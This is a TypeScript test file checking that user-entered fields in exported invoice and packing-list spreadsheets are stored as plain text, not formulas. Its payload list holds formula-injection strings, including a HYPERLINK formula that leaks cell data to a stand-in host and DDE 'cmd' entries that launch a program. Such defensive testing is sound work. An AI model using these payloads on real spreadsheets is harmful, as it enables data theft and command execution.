/**
 * Formula injection: text that users typed (descriptions, names, marks, references, addresses) lands in the
 * spreadsheet as text, never as a formula, whatever it starts with. Read back with SheetJS: the cell type is
 * string ('s') and there is no formula ('f') anywhere in the workbook.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { DOCUMENT_LAYOUTS } from '../../../../templates/documents/index.js';
import { renderDocument } from './index.js';
import { demoSnapshot, input } from './render.fixtures.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=cmd|\' /C calc\'!A0',
  '\r=1+2',
  '=cmd|\'/c calc\'!A1',
  '0412345678',
  '1e10',
];

function workbookCells(bytes: Uint8Array): XLSX.CellObject[] {
  const wb = XLSX.read(bytes, { type: 'array', cellFormula: true });
  return wb.SheetNames.flatMap((name) => {
    const ws = wb.Sheets[name]!;
    return Object.keys(ws)
      .filter((k) => !k.startsWith('!'))
      .map((k) => ws[k] as XLSX.CellObject);
  });
}

function poisoned(payload: string) {
  const s = demoSnapshot('KK-2026-0141-S1');
  s.exporter.legalName = payload;
  s.exporter.address.lines = [payload];
  s.consignee.name = payload;
  s.consignee.address.lines = [payload, 'Große Elbstraße 145'];
  s.consignee.address.city = payload;
  s.consignee.taxIds = [{ type: 'VAT', value: payload }];
  s.buyer.name = payload;
  s.notifyParty!.name = payload;
  s.order.buyerPo = payload;
  s.order.reference = payload;
  s.order.incotermPlace = payload;
  s.order.paymentTermsText = payload;
  s.shipment!.marks = `${payload}\n${payload}`;
  s.shipment!.vessel = payload;
  s.shipment!.references = { ISF: payload };
  for (const l of s.lines) {
    l.description = payload;
    l.sku = payload;
    l.unit = payload;
  }
  s.totals.quantities = [{ unit: payload, quantity: '14000' }];
  return s;
}

describe('formula injection in spreadsheets', () => {
  it.each(PAYLOADS)('%j stays text in every cell it reaches', async (payload) => {
    for (const kind of ['commercial_invoice', 'packing_list'] as const) {
      const s = poisoned(payload);
      const bytes = await renderDocument(
        input(kind, 'xlsx', s, { documentNumber: payload, declarations: [{ id: 'x', text: payload }], status: 'draft' }),
        DOCUMENT_LAYOUTS[kind],
      );
      const cells = workbookCells(bytes);
      for (const c of cells) expect(c.f, JSON.stringify(c)).toBeUndefined();
      // XML 1.0 turns a literal CR into LF on reading; the text is otherwise intact
      const expected = payload.replace(/\r/g, '\n');
      const hits = cells.filter((c) => typeof c.v === 'string' && (c.v === expected || c.v.includes(expected)));
      expect(hits.length, `${kind}: ${payload}`).toBeGreaterThan(2);
      for (const c of hits) expect(c.t).toBe('s');
      // the cells that are exactly the payload (descriptions, units, marks lines) are strings, not numbers or formulas
      const exact = cells.filter((c) => c.v === expected || c.w === expected);
      expect(exact.length).toBeGreaterThan(0);
      for (const c of exact) expect(c.t).toBe('s');
    }
  });

  it('no text at all ever becomes a formula (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', ''),
        fc.string({ maxLength: 40 }),
        async (lead, rest) => {
          const payload = `${lead}${rest}`.trim() === '' ? `${lead}x` : `${lead}${rest}`;
          const s = demoSnapshot('KK-2026-0141-S1');
          s.lines[0]!.description = payload;
          s.consignee.name = payload;
          s.shipment!.marks = payload;
          const bytes = await renderDocument(input('commercial_invoice', 'xlsx', s), DOCUMENT_LAYOUTS.commercial_invoice);
          for (const c of workbookCells(bytes)) {
            expect(c.f).toBeUndefined();
            expect(['s', 'n']).toContain(c.t);
          }
        },
      ),
      { numRuns: 40 },
    );
  });
});
